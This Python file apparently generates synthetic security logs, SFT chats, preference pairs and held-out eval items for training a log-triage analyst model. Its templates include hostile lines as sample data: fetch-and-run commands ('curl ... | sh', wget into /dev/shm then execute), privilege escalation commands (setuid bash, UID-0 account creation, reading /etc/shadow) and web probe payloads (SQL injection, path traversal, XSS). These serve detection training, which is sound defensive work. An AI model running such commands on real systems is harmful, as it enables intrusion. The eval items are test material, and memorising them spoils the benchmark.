"""Seeded security-log generator: log sessions (CPT), triage chats (SFT), preference pairs (DPO), labelled event
lines (classification), suite items.

Material: sshd/PAM auth logs, sudo, cron, systemd, kernel (UFW firewall, OOM, segfaults, I/O errors), shell
history / auditd downloads and nginx access logs, written by several hosts, in sessions that are normal (admin
work, web traffic, cron, a mistyped password, a stray blocked packet) or attacks (SSH brute force, port scan,
privilege escalation, suspicious download, web attack), plus SIEM alerts with the analyst's note.

Why train and eval never meet: every value a line carries comes from a pool split in two (hosts, users, the
accounts attackers guess, attacker and client networks, URLs, paths, commands) and eval lines are dated in
late November / December while train lines are dated January to October, so an eval line, session or alert
cannot equal a training one; the line templates themselves are shared (recognising an event on a new host is
the skill being measured).
"""

from __future__ import annotations

import random
from typing import Any

from harness.data.records import classification_prompt, normalize_text, sample_options

DEFAULTS: dict[str, Any] = {
    "n_logs": 2500,  # CPT documents (log sessions and alerts with notes)
    "n_sft": 2000,  # SFT chats: event labelling, attack yes/no, alert -> analyst note
    "n_dpo": 800,  # preference pairs
    "event_fraction": 0.35,
    "attack_fraction": 0.3,  # the rest of the SFT chats are alert -> note
    "n_options": 6,  # event labels shown per item; chance = 1 / n_options
    "typo_rate": 0.1,  # analyst notes written in a hurry
    "n_events": 700,  # labelled log lines (classification: one line -> its event), the event_head stage's data
}

SYSTEM = "You are a security operations analyst. Read logs carefully and answer precisely."
EVENT_INSTRUCTION = "Classify the event in this log line.\nLine: {text}\nOptions: {options}\nAnswer with one option."
ATTACK_INSTRUCTION = "Is this log session part of an attack? Answer yes or no.\n{session}"
SUMMARY_INSTRUCTION = "Write the analyst note for this alert.\n{alert}"


def _split(values: list[str], split: str, every: int = 4) -> list[str]:
    """Every `every`-th value is eval-only."""
    return [v for i, v in enumerate(values) if (i % every == every - 1) == (split == "eval")]


HOSTS = ["web-01", "web-02", "db-01", "edge-07", "mail-01", "vpn-gw", "bastion", "api-12", "app-03", "ci-runner",
         "files-01", "ldap-02", "kube-node-2", "monitor", "git-01", "backup-04", "shop-fe", "auth-01", "proxy-09",
         "jump-05"]
USERS = ["alice", "bob", "carol", "quentin", "dmitri", "erin", "farid", "rosa", "grace", "hiro", "ines", "sven",
         "jamal", "kofi", "lena", "tariq", "mateo", "nadia", "oskar", "uma", "priya", "ravi", "selma", "viktor"]
GUESSES = ["admin", "test", "oracle", "pi", "postgres", "ubuntu", "guest", "hadoop", "ftpuser", "support", "git",
           "deploy", "user1", "mysql", "tomcat", "jenkins", "nagios", "ansible", "minecraft", "teamspeak"]
ATTACK_NETS = ["185.220.101", "45.155.205", "103.145.13", "61.177.172", "91.240.118", "141.98.11", "193.32.162",
               "77.90.185", "218.92.0", "5.188.206", "179.43.175", "222.186.30"]
CLIENT_NETS = ["73.42.19", "98.114.7", "86.12.201", "24.56.88", "81.2.69", "203.0.113", "66.249.66", "109.70.100"]
INTERNAL_NETS = ["10.0.4", "10.0.12", "192.168.10", "10.20.3", "172.16.5", "10.0.30", "192.168.50", "10.8.1"]
MONTHS_TRAIN = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct"]
MONTHS_EVAL = ["Nov", "Dec"]
ADMIN_CMDS = ["/usr/bin/apt-get update", "/usr/bin/systemctl restart nginx", "/usr/bin/journalctl -u ssh",
              "/usr/bin/tail -n 50 /var/log/syslog", "/usr/bin/systemctl status postgresql", "/usr/sbin/ufw status",
              "/usr/bin/docker ps", "/usr/bin/df -h", "/usr/bin/apt-get upgrade -y", "/usr/bin/certbot renew",
              "/usr/bin/systemctl reload haproxy", "/usr/bin/du -sh /var/log"]
ESCALATION_CMDS = ["/bin/bash", "/usr/bin/su -", "/bin/chmod u+s /bin/bash", "/usr/sbin/useradd -o -u 0 sysd",
                   "/usr/bin/passwd root", "/usr/bin/vim /etc/sudoers", "/bin/cat /etc/shadow",
                   "/usr/bin/python3 -c import pty;pty.spawn('/bin/sh')"]
CRON_CMDS = ["/usr/lib/php/sessionclean", "test -x /usr/sbin/anacron || run-parts /etc/cron.daily",
             "/usr/local/bin/backup.sh", "/usr/bin/certbot -q renew", "/opt/monitor/check_disk.sh",
             "logrotate /etc/logrotate.conf", "/usr/local/bin/db_dump.sh", "/usr/bin/find /tmp -mtime +7 -delete"]
SERVICES = ["nginx.service", "ssh.service", "postgresql.service", "docker.service", "cron.service",
            "fail2ban.service", "haproxy.service", "redis-server.service", "node_exporter.service", "rsyslog.service"]
PAYLOADS = ["bins/x86", "mirai.arm7", "x.sh", "kworker", "update.sh", "xmrig", "dbus-daemon", "ssh-scan.tgz",
            "run.pl", "k.elf", "sysupdate", "bot.py"]
WEB_PATHS = ["/", "/index.html", "/login", "/api/v1/orders", "/static/app.js", "/products?page=2", "/cart",
             "/favicon.ico", "/account/settings", "/api/v1/health", "/blog/2026/release-notes", "/search?q=shoes",
             "/images/logo.png", "/checkout", "/api/v2/users/me", "/docs/getting-started"]
ATTACK_PATHS = ["/wp-login.php", "/.env", "/../../../../etc/passwd", "/index.php?id=1' OR '1'='1", "/phpmyadmin/",
                "/cgi-bin/luci/;stok=/locale", "/.git/config", "/admin/config.php", "/shell.php?cmd=id",
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system", "/boaform/admin",
                "/api/v1/users?name=<script>alert(1)</script>", "/actuator/env", "/HNAP1/", "/owa/auth/logon.aspx"]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0)", "curl/7.88.1", "Mozilla/5.0 (iPhone)",
          "python-requests/2.31", "Mozilla/5.0 (Macintosh)", "Go-http-client/1.1", "Wget/1.21.3"]
SCANNER_AGENTS = ["sqlmap/1.7", "Nikto/2.5.0", "masscan/1.3", "zgrab/0.x", "Mozilla/5.0 zgrab", "nuclei/2.9"]
KERNEL_ERRORS = ["Out of memory: Killed process {pid} (java) total-vm:{kb}kB",
                 "{proc}[{pid}]: segfault at 0 ip 00007f{hex} sp 00007ffd{hex} error 4 in libc.so.6",
                 "EXT4-fs error (device sda1): ext4_find_entry:1455: inode #{kb}: comm {proc}: reading directory",
                 "blk_update_request: I/O error, dev sdb, sector {kb} op 0x0:(READ)",
                 "INFO: task {proc}:{pid} blocked for more than 120 seconds."]
PROCS = ["java", "python3", "node", "php-fpm", "postgres", "nginx", "dockerd", "rsync"]

EVENTS = ["ssh login success", "ssh login failure", "invalid user", "ssh disconnect", "sudo command", "sudo denied",
          "firewall block", "web request ok", "web request error", "web attack", "kernel error", "cron job",
          "service change", "file download"]


class Ctx:
    """Pools and clock of one split."""

    def __init__(self, rng: random.Random, split: str) -> None:
        self.rng, self.split = rng, split
        self.hosts = _split(HOSTS, split)
        self.users = _split(USERS, split)
        self.guesses = _split(GUESSES, split)
        self.attack_nets = _split(ATTACK_NETS, split, 3)
        self.client_nets = _split(CLIENT_NETS, split)
        self.internal_nets = _split(INTERNAL_NETS, split)
        self.payloads = _split(PAYLOADS, split, 3)
        self.web_paths = _split(WEB_PATHS, split)
        self.attack_paths = _split(ATTACK_PATHS, split)
        self.cmds = _split(ADMIN_CMDS, split)
        self.esc_cmds = _split(ESCALATION_CMDS, split)
        self.cron = _split(CRON_CMDS, split)
        self.services = _split(SERVICES, split)
        self.months = MONTHS_EVAL if split == "eval" else MONTHS_TRAIN
        self.days = range(25, 29) if split == "eval" else range(1, 25)
        self.t = 0

    def pick(self, values: list[str]) -> str:
        return self.rng.choice(values)

    def start(self) -> None:
        r = self.rng
        self.month, self.day = r.choice(self.months), r.choice(self.days)
        self.t = r.randint(0, 86000 - 3600)
        self.boot = r.randint(1000, 2_000_000) + r.random()

    def tick(self, lo: int = 0, hi: int = 20) -> None:
        self.t += self.rng.randint(lo, hi)

    def stamp(self) -> str:
        t = min(self.t, 86399)
        return f"{self.month} {self.day:2d} {t // 3600:02d}:{t // 60 % 60:02d}:{t % 60:02d}"

    def web_stamp(self) -> str:
        t = min(self.t, 86399)
        return f"{self.day:02d}/{self.month}/2026:{t // 3600:02d}:{t // 60 % 60:02d}:{t % 60:02d} +0000"

    def ip(self, kind: str) -> str:
        nets = {"attack": self.attack_nets, "client": self.client_nets, "internal": self.internal_nets}[kind]
        return f"{self.pick(nets)}.{self.rng.randint(2, 254)}"

    def host_addr(self, host: str) -> tuple[str, str]:
        """A host's own internal IP and its gateway's MAC (fixed per host, as on a real box)."""
        r = random.Random(f"{self.split}-{host}")
        mac = ":".join(f"{r.randint(0, 255):02x}" for _ in range(6))
        return f"{r.choice(self.internal_nets)}.{r.randint(2, 254)}", mac

    def uptime(self) -> str:
        return f"{self.boot + self.t:.6f}"

    def port(self) -> int:
        return self.rng.randint(32768, 65535)

    def pid(self) -> int:
        return self.rng.randint(1000, 65000)


def _syslog(c: Ctx, host: str, proc: str, msg: str, pid: int | None = None) -> str:
    return f"{c.stamp()} {host} {proc}{f'[{pid}]' if pid else ''}: {msg}"


def line(c: Ctx, event: str, host: str, *, user: str | None = None, ip: str | None = None,
         pid: int | None = None, extra: dict[str, Any] | None = None) -> str:
    """One log line of `event` (see EVENTS), with the given actors or fresh ones from the split's pools."""
    r = c.rng
    x = extra or {}
    user = user or c.pick(c.users)
    pid = pid or c.pid()
    if event == "ssh login success":
        ip = ip or c.ip(r.choice(["client", "internal"]))
        msg = r.choice([f"Accepted password for {user} from {ip} port {c.port()} ssh2",
                        f"Accepted publickey for {user} from {ip} port {c.port()} ssh2",
                        f"pam_unix(sshd:session): session opened for user {user}(uid={r.randint(1000, 1050)}) by "
                        "(uid=0)"])
        return _syslog(c, host, "sshd", msg, pid)
    if event == "ssh login failure":
        ip = ip or c.ip("client")
        msg = r.choice([f"Failed password for {user} from {ip} port {c.port()} ssh2",
                        f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                        f"rhost={ip}  user={user}",
                        f"error: PAM: Authentication failure for {user} from {ip}"])
        return _syslog(c, host, "sshd", msg, pid)
    if event == "invalid user":
        ip = ip or c.ip("attack")
        guess = x.get("guess") or c.pick(c.guesses)
        msg = r.choice([f"Invalid user {guess} from {ip} port {c.port()}",
                        f"Failed password for invalid user {guess} from {ip} port {c.port()} ssh2",
                        f"input_userauth_request: invalid user {guess} [preauth]"])
        return _syslog(c, host, "sshd", msg, pid)
    if event == "ssh disconnect":
        ip = ip or c.ip("client")
        msgs = [f"Connection closed by {ip} port {c.port()} [preauth]",
                f"Received disconnect from {ip} port {c.port()}:11: Bye Bye [preauth]",
                f"Disconnected from user {user} {ip} port {c.port()}",
                f"pam_unix(sshd:session): session closed for user {user}"]
        msg = r.choice(msgs[:2] if x.get("preauth") else msgs)
        return _syslog(c, host, "sshd", msg, pid)
    if event == "sudo command":
        cmd = x.get("cmd") or c.pick(c.cmds)
        return _syslog(c, host, "sudo", f"{user} : TTY=pts/{r.randint(0, 4)} ; PWD=/home/{user} ; USER=root ; "
                                         f"COMMAND={cmd}")
    if event == "sudo denied":
        cmd = x.get("cmd") or c.pick(c.esc_cmds)
        tty = r.randint(0, 4)
        msg = r.choice([f"{user} : user NOT in sudoers ; TTY=pts/{tty} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}",
                        f"pam_unix(sudo:auth): authentication failure; logname={user} uid={r.randint(1000, 1050)} "
                        f"euid=0 tty=/dev/pts/{tty} ruser={user} rhost=  user={user}",
                        f"{user} : 3 incorrect password attempts ; TTY=pts/{tty} ; PWD=/home/{user} ; USER=root ; "
                        f"COMMAND={cmd}"])
        return _syslog(c, host, "sudo", msg)
    if event == "firewall block":
        ip = ip or c.ip("attack")
        dport = x.get("dport") or r.choice([22, 23, 445, 3389, 8080, 5900, 1433, 6379])
        dst, mac = c.host_addr(host)
        return f"{c.stamp()} {host} kernel: [UFW BLOCK] IN=eth0 MAC={mac} SRC={ip} DST={dst} PROTO=TCP DPT={dport}"
    if event.startswith("web"):
        ip = ip or c.ip("attack" if event == "web attack" else "client")
        if event == "web attack":
            path, status = x.get("path") or c.pick(c.attack_paths), r.choice([400, 403, 404, 404])
            agent = x.get("agent") or r.choice(SCANNER_AGENTS + AGENTS[:2])
        else:
            path = c.pick(c.web_paths)
            ok = event == "web request ok"
            status = r.choice([200, 200, 200, 301, 304] if ok else [404, 500, 502, 403])
            agent = r.choice(AGENTS)
        method = "POST" if path in ("/login", "/checkout", "/cart") and r.random() < 0.5 else "GET"
        return f'{ip} - - [{c.web_stamp()}] "{method} {path} HTTP/1.1" {status} {r.randint(0, 9999)} "{agent}"'
    if event == "kernel error":
        msg = r.choice(KERNEL_ERRORS).format(pid=pid, kb=r.randint(10000, 9999999), proc=r.choice(PROCS),
                                             hex=f"{r.getrandbits(32):08x}")
        return f"{c.stamp()} {host} kernel: [{c.uptime()}] {msg}"
    if event == "cron job":
        who = x.get("cron_user") or r.choice(["root", "root", user])
        return _syslog(c, host, "CRON", f"({who}) CMD ({x.get('cmd') or c.pick(c.cron)})", pid)
    if event == "service change":
        svc = c.pick(c.services)
        msg = r.choice([f"Started {svc}.", f"Stopping {svc}...", f"{svc}: Succeeded.",
                        f"{svc}: Main process exited, code=exited, status=1/FAILURE", f"Reloading {svc}."])
        return _syslog(c, host, "systemd", msg, 1)
    if event == "file download":
        ip = ip or c.ip("attack")
        payload = x.get("payload") or c.pick(c.payloads)
        url = f"http://{ip}/{payload}"
        name = payload.rsplit("/", 1)[-1]
        msg = r.choice([f"HISTORY: PID={pid} UID={r.randint(1000, 1050)} wget {url} -O /tmp/.{name}",
                        f"HISTORY: PID={pid} UID={r.randint(1000, 1050)} curl -fsSL {url} | sh",
                        f"HISTORY: PID={pid} UID=0 cd /dev/shm; wget -q {url}; chmod +x {name}; ./{name}"])
        return _syslog(c, host, "bash", msg, pid)
    raise ValueError(event)


# ---------------------------------------------------------------- sessions

ATTACKS = ["brute force", "port scan", "privilege escalation", "suspicious download", "web attack"]
NORMALS = ["admin work", "web traffic", "scheduled jobs", "mistyped password", "stray block", "noisy kernel"]


def session(c: Ctx, kind: str) -> dict[str, Any]:
    """A session: lines plus the facts an analyst note states (host, source IP, user, counts)."""
    r = c.rng
    c.start()
    host = c.pick(c.hosts)
    user = c.pick(c.users)
    lines: list[str] = []
    facts: dict[str, Any] = {"kind": kind, "host": host, "user": user, "attack": kind in ATTACKS}

    def add(event: str, **kw: Any) -> None:
        c.tick(0, kw.pop("gap", 20))
        lines.append(line(c, event, host, **kw))

    if kind == "brute force":
        ip = c.ip("attack")
        n = r.randint(3, 5)
        guesses = r.sample(c.guesses, k=min(len(c.guesses), r.randint(2, 4)))
        for i in range(n):
            if r.random() < 0.6:
                add("invalid user", ip=ip, extra={"guess": guesses[i % len(guesses)]}, gap=3)
            else:
                add("ssh login failure", ip=ip, user="root", gap=3)
        add("ssh disconnect", ip=ip, extra={"preauth": True}, gap=2)
        facts.update(ip=ip, n=n, accounts=", ".join(["root", *guesses]))
    elif kind == "port scan":
        ip = c.ip("attack")
        ports = r.sample([21, 22, 23, 25, 53, 80, 110, 135, 139, 443, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080,
                          8443, 9200], k=r.randint(3, 5))
        for p in sorted(ports) if r.random() < 0.5 else ports:
            add("firewall block", ip=ip, extra={"dport": p}, gap=1)
        facts.update(ip=ip, n=len(ports), ports=", ".join(map(str, sorted(ports))))
    elif kind == "privilege escalation":
        ip = c.ip("client")
        add("ssh login success", user=user, ip=ip)
        n = r.randint(2, 3)
        for _ in range(n):
            add("sudo denied", user=user, extra={"cmd": c.pick(c.esc_cmds)})
        if r.random() < 0.5:
            add("cron job", extra={"cron_user": user, "cmd": f"/home/{user}/.cache/.u.sh"})
        add("ssh disconnect", user=user, ip=ip)
        facts.update(ip=ip, n=n)
    elif kind == "suspicious download":
        ip = c.ip("attack")
        login_ip = c.ip("client")
        payload = c.pick(c.payloads)
        add("ssh login success", user=user, ip=login_ip)
        add("file download", ip=ip, extra={"payload": payload})
        if r.random() < 0.6:
            add("cron job", extra={"cron_user": user, "cmd": f"/tmp/.{payload.rsplit('/', 1)[-1]} >/dev/null 2>&1"})
        if r.random() < 0.5:
            add("kernel error")
        add("ssh disconnect", user=user, ip=login_ip)
        facts.update(ip=ip, payload=payload, login_ip=login_ip)
    elif kind == "web attack":
        ip = c.ip("attack")
        n = r.randint(3, 4)
        agent = r.choice(SCANNER_AGENTS)
        paths = r.sample(c.attack_paths, k=min(n, len(c.attack_paths)))
        for p in paths:
            add("web attack", ip=ip, extra={"path": p, "agent": agent}, gap=2)
        facts.update(ip=ip, n=len(paths), agent=agent)
    elif kind == "admin work":
        ip = c.ip(r.choice(["internal", "client"]))
        add("ssh login success", user=user, ip=ip)
        for _ in range(r.randint(1, 2)):
            add("sudo command", user=user)
        if r.random() < 0.5:
            add("service change")
        add("ssh disconnect", user=user, ip=ip)
        facts.update(ip=ip)
    elif kind == "web traffic":
        ips = [c.ip("client") for _ in range(r.randint(1, 3))]
        for _ in range(r.randint(3, 4)):
            add("web request ok" if r.random() < 0.8 else "web request error", ip=r.choice(ips), gap=5)
        facts.update(ip=ips[0])
    elif kind == "scheduled jobs":
        for _ in range(r.randint(3, 4)):
            add(r.choice(["cron job", "cron job", "service change"]), gap=300)
        facts.update(ip="")
    elif kind == "mistyped password":
        ip = c.ip(r.choice(["internal", "client"]))
        add("ssh login failure", user=user, ip=ip)
        add("ssh login success", user=user, ip=ip, gap=8)
        add("sudo command", user=user)
        add("ssh disconnect", user=user, ip=ip)
        facts.update(ip=ip)
    elif kind == "stray block":
        ip = c.ip("attack")
        add("firewall block", ip=ip)
        for _ in range(r.randint(2, 3)):
            add("web request ok", gap=10)
        facts.update(ip=ip)
    elif kind == "noisy kernel":
        for _ in range(r.randint(2, 3)):
            add("kernel error", gap=60)
        add("service change")
        add("cron job")
        facts.update(ip="")
    else:
        raise ValueError(kind)
    return {"lines": lines, **facts}


SEVERITY = {"brute force": "high", "port scan": "medium", "privilege escalation": "critical",
            "suspicious download": "critical", "web attack": "medium", "mistyped password": "low",
            "stray block": "low"}
RULES = {"brute force": "SSH brute force", "port scan": "Port scan", "privilege escalation": "Privilege escalation",
         "suspicious download": "Suspicious download", "web attack": "Web attack",
         "mistyped password": "Failed login", "stray block": "Blocked connection"}
ALERT_KINDS = list(RULES)
USER_ALERTS = ("privilege escalation", "suspicious download", "mistyped password")


ALERT_LINES = 1  # a SIEM alert shows its facts and the first events (token budget of a small model)
SHOWN_LINES = 3  # lines of a session shown for the attack yes/no question


def alert_text(s: dict[str, Any]) -> str:
    keys = ("ip", "user", "n", "accounts", "ports", "payload", "agent")
    facts = "".join(f" {'count' if k == 'n' else k}={s[k]}" for k in keys
                    if s.get(k) not in (None, "") and (k != "user" or s["kind"] in USER_ALERTS))
    head = f"ALERT rule=\"{RULES[s['kind']]}\" severity={SEVERITY[s['kind']]} host={s['host']}{facts}"
    return "\n".join([head, *s["lines"][:ALERT_LINES]])


def analyst_note(s: dict[str, Any], rng: random.Random) -> str:
    """The note a good analyst writes: verdict, who/what/where, what was done. A few phrasings per kind."""
    k, h, ip, u = s["kind"], s["host"], s.get("ip", ""), s["user"]
    if k == "brute force":
        return rng.choice([
            f"True positive: SSH brute force on {h} from {ip}, {s['n']} failed logins for {s['accounts']}, none "
            f"succeeded. Blocked {ip} at the firewall.",
            f"True positive: SSH brute force against {h}. {ip} tried {s['n']} logins ({s['accounts']}) and never got "
            f"in. Source blocked at the firewall."])
    if k == "port scan":
        return rng.choice([
            f"True positive: port scan of {h} from {ip}, {s['n']} blocked probes to ports {s['ports']}. The firewall "
            f"held; {ip} added to the blocklist.",
            f"True positive: {ip} scanned {h} on ports {s['ports']} ({s['n']} SYN probes, all blocked). Source added "
            "to the blocklist."])
    if k == "privilege escalation":
        return rng.choice([
            f"True positive: privilege escalation attempt on {h}. {u} logged in from {ip} and tried sudo {s['n']} "
            f"times without rights. Account {u} locked, escalated to incident response.",
            f"True positive: {u} on {h} tried to become root ({s['n']} denied sudo attempts) after logging in from "
            f"{ip}. Account locked, escalated to incident response."])
    if k == "suspicious download":
        return rng.choice([
            f"True positive: suspicious download on {h}. {u} fetched http://{ip}/{s['payload']} into a temp folder "
            f"and ran it. Host isolated, file sent for malware analysis.",
            f"True positive: {u} on {h} downloaded and executed http://{ip}/{s['payload']}. Host isolated, file "
            "sent for malware analysis."])
    if k == "web attack":
        return rng.choice([
            f"True positive: web attack against {h} from {ip}, {s['n']} exploit probes with {s['agent']}, all "
            f"rejected. {ip} blocked at the WAF.",
            f"True positive: {ip} probed {h} for known web exploits ({s['n']} requests, {s['agent']}); every request "
            "was rejected. Source blocked at the WAF."])
    if k == "mistyped password":
        return rng.choice([
            f"False positive: {u} mistyped the password once from {ip} on {h}, then logged in normally. Closed as "
            "benign.",
            f"False positive: one failed login for {u} from {ip} on {h}, followed by a normal login. Closed as "
            "benign."])
    if k == "stray block":
        return rng.choice([
            f"False positive: a single blocked packet from {ip} to {h}, no follow-up traffic. Closed as benign.",
            f"False positive: one blocked connection from {ip} on {h} and nothing after it. Closed as benign."])
    raise ValueError(k)


def bad_note(s: dict[str, Any], rng: random.Random) -> str:
    """A note a release must not prefer: wrong verdict, vague, or the wrong kind of incident."""
    h, ip = s["host"], s.get("ip") or "the source"
    choice = rng.randrange(3)
    if choice == 0:
        return (f"False positive: routine activity on {h}, nothing unusual from {ip}. Closed as benign."
                if s["kind"] in ATTACKS else
                f"True positive: active compromise of {h} from {ip}. Host isolated, escalated to incident response.")
    if choice == 1:
        return rng.choice(["Looked at it, seems fine.", "Not sure what this is, closing.", "Probably nothing. Closed.",
                           "Checked the logs. No action."])
    other = rng.choice([k for k in ALERT_KINDS if k != s["kind"]])
    return analyst_note({**s, "kind": other, "n": s.get("n", 3), "accounts": s.get("accounts", "root"),
                         "ports": s.get("ports", "22"), "payload": s.get("payload", "x.sh"),
                         "agent": s.get("agent", "curl/7.88.1"), "ip": s.get("ip") or "the source"}, rng)


def _typo(text: str, rng: random.Random) -> str:
    words = text.split(" ")
    idx = [i for i, w in enumerate(words) if len(w) >= 6 and w.isalpha()]
    if not idx:
        return text
    i = rng.choice(idx)
    w = words[i]
    j = rng.randrange(1, len(w) - 2)
    words[i] = w[:j] + w[j + 1] + w[j] + w[j + 2:]
    return " ".join(words)


# ---------------------------------------------------------------- prompts (shared by SFT data and the suite)

def event_prompt(text: str, options: list[str]) -> str:
    return classification_prompt(text, options, EVENT_INSTRUCTION)


def attack_prompt(lines: list[str]) -> str:
    return ATTACK_INSTRUCTION.format(session="\n".join(lines[:SHOWN_LINES]))


def summary_prompt(s: dict[str, Any]) -> str:
    return SUMMARY_INSTRUCTION.format(alert=alert_text(s))


def _event_item(c: Ctx, n_options: int) -> tuple[str, str, list[str]]:
    event = c.rng.choice(EVENTS)
    c.start()
    text = line(c, event, c.pick(c.hosts))
    options = sample_options(event, EVENTS, n_options, c.rng)
    return text, event, options


def _session_kind(rng: random.Random, attack: bool | None = None) -> str:
    attack = rng.random() < 0.5 if attack is None else attack
    return rng.choice(ATTACKS if attack else NORMALS)


def events() -> list[str]:
    return list(EVENTS)


def system_prompt() -> str:
    return SYSTEM


# ---------------------------------------------------------------- train data

def generate(seed: int, **params: Any) -> dict[str, list[dict[str, Any]]]:
    """Train-split records keyed by the manifest's dataset names: logs (text), chats (chat), pairs (preference),
    events (classification)."""
    unknown = set(params) - set(DEFAULTS)
    if unknown:
        raise ValueError(f"unknown security_logs generator params {sorted(unknown)}; known: {sorted(DEFAULTS)}")
    p = {**DEFAULTS, **params}
    rng = random.Random(f"security_logs-train-{seed}")
    c = Ctx(rng, "train")
    logs = []
    for i in range(p["n_logs"]):
        kind = _session_kind(rng)
        s = session(c, kind)
        if kind in RULES and rng.random() < 0.35:  # an alert with the analyst's note, as a SIEM exports it
            text = f"{alert_text(s)}\nNOTE: {analyst_note(s, rng)}"
        else:
            text = "\n".join(s["lines"])
        logs.append({"id": f"log-{i:05d}", "text": text, "meta": {"session": kind}})
    chats = []
    system = {"role": "system", "content": SYSTEM}
    for i in range(p["n_sft"]):
        u = rng.random()
        if u < p["event_fraction"]:
            text, event, options = _event_item(c, p["n_options"])
            user, answer, task = event_prompt(text, options), event, "event"
        elif u < p["event_fraction"] + p["attack_fraction"]:
            s = session(c, _session_kind(rng))
            user, answer, task = attack_prompt(s["lines"]), "yes" if s["attack"] else "no", "attack"
        else:
            s = session(c, rng.choice(ALERT_KINDS))
            user, answer, task = summary_prompt(s), analyst_note(s, rng), "summary"
            if rng.random() < p["typo_rate"]:
                answer = _typo(answer, rng)
        chats.append({"id": f"sft-{i:05d}", "messages": [system, {"role": "user", "content": user},
                                                         {"role": "assistant", "content": answer}],
                      "meta": {"task": task}})
    pairs = []
    for i in range(p["n_dpo"]):
        if rng.random() < 0.3:
            s = session(c, _session_kind(rng))
            prompt, chosen = attack_prompt(s["lines"]), "yes" if s["attack"] else "no"
            rejected = "no" if s["attack"] else "yes"
        else:
            s = session(c, rng.choice(ALERT_KINDS))
            prompt, chosen, rejected = summary_prompt(s), analyst_note(s, rng), bad_note(s, rng)
        pairs.append({"id": f"dpo-{i:05d}", "prompt": prompt, "chosen": chosen, "rejected": rejected,
                      "meta": {"system": SYSTEM, "session": s["kind"]}})
    # Labelled lines from their own generator stream, so adding them left logs / chats / pairs unchanged; every
    # event equally often (the head's held-out accuracy then reads against chance 1/14).
    c_events = Ctx(random.Random(f"security_logs-events-{seed}"), "train")
    events_ = []
    for i in range(p["n_events"]):
        event = EVENTS[i % len(EVENTS)]
        c_events.start()
        events_.append({"id": f"event-{i:05d}", "text": line(c_events, event, c_events.pick(c_events.hosts)),
                        "label": event})
    return {"logs": logs, "chats": chats, "pairs": pairs, "events": events_}


# ---------------------------------------------------------------- suite items

def eval_items(seed: int = 0, *, n_event: int = 400, n_attack: int = 240, n_ppl: int = 64, n_summary: int = 48,
               **params: Any) -> dict[str, list[dict[str, Any]]]:
    """Held-out suite items (eval pools and dates only); attack items are exactly balanced yes/no and each
    attack / normal kind appears equally often; event items cycle through the event labels."""
    p = {**DEFAULTS, **params}
    rng = random.Random(f"security_logs-eval-{seed}")
    c = Ctx(rng, "eval")
    seen: set[str] = set()
    out: dict[str, list[dict[str, Any]]] = {"event": [], "attack": [], "ppl": [], "summary": []}

    def fresh(text: str) -> bool:
        key = normalize_text(text)
        if key in seen:
            return False
        seen.add(key)
        return True

    while len(out["event"]) < n_event:
        event = EVENTS[len(out["event"]) % len(EVENTS)]
        c.start()
        text = line(c, event, c.pick(c.hosts))
        if not fresh(text):
            continue
        options = sample_options(event, EVENTS, p["n_options"], rng)
        out["event"].append({"id": f"event-{len(out['event']):04d}", "system": SYSTEM,
                             "user": event_prompt(text, options), "line": text, "choices": options,
                             "gold": options.index(event), "label": event, "decontam": [text]})
    while len(out["attack"]) < n_attack:
        i = len(out["attack"])
        attack = i % 2 == 0
        kinds = ATTACKS if attack else NORMALS
        s = session(c, kinds[(i // 2) % len(kinds)])
        text = "\n".join(s["lines"][:SHOWN_LINES])
        if not fresh(text):
            continue
        out["attack"].append({"id": f"attack-{i:04d}", "system": SYSTEM, "user": attack_prompt(s["lines"]),
                              "session": text, "kind": s["kind"], "choices": ["no", "yes"], "gold": int(attack),
                              "decontam": [text]})
    while len(out["ppl"]) < n_ppl:
        s = session(c, _session_kind(rng))
        text = "\n".join(s["lines"])
        if fresh(text):
            out["ppl"].append({"id": f"ppl-{len(out['ppl']):04d}", "kind": s["kind"], "log": text,
                               "decontam": [text]})
    while len(out["summary"]) < n_summary:
        s = session(c, ALERT_KINDS[len(out["summary"]) % len(ALERT_KINDS)])
        alert = alert_text(s)
        if fresh(alert):
            out["summary"].append({"id": f"summary-{len(out['summary']):04d}", "kind": s["kind"], "system": SYSTEM,
                                   "user": summary_prompt(s), "alert": alert, "note": analyst_note(s, rng),
                                   "verdict": "True positive" if s["attack"] else "False positive",
                                   "decontam": [alert]})
    for rows in out.values():
        rng.shuffle(rows)
    return out
